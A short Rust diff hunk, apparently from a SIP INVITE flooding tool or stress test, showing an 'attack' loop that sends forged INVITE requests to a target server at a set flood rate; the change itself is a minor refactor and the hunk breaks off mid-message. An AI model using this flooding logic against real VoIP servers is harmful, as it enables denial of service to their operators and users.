@@ -81,7 +81,7 @@ fn attack(server: SocketAddr, stop: &AtomicBool, sent: &AtomicU64) -> u64 {
         let due = (start.elapsed().as_secs_f64() * FLOOD_RATE as f64) as u64;
         while count < due {
             let socket = &sockets[(count % u64::from(FORGED)) as usize];
-            let ip = socket.local_addr().map_or(Ipv4Addr::LOCALHOST.into(), |a| a.ip());
+            let ip = socket.local_addr().map_or_else(|_| Ipv4Addr::LOCALHOST.into(), |a| a.ip());
             let invite = format!(
                 "INVITE sip:00{count}@{server} SIP/2.0\r\nVia: SIP/2.0/UDP {ip}:5060;branch=z9hG4bK{count}\r\nMax-Forwards: 70\r\n\
                  From: <sip:100@{ip}>;tag={count}\r\nTo: <sip:00{count}@{server}>\r\nCall-ID: {count}@{ip}\r\nCSeq: 1 INVITE\r\n\
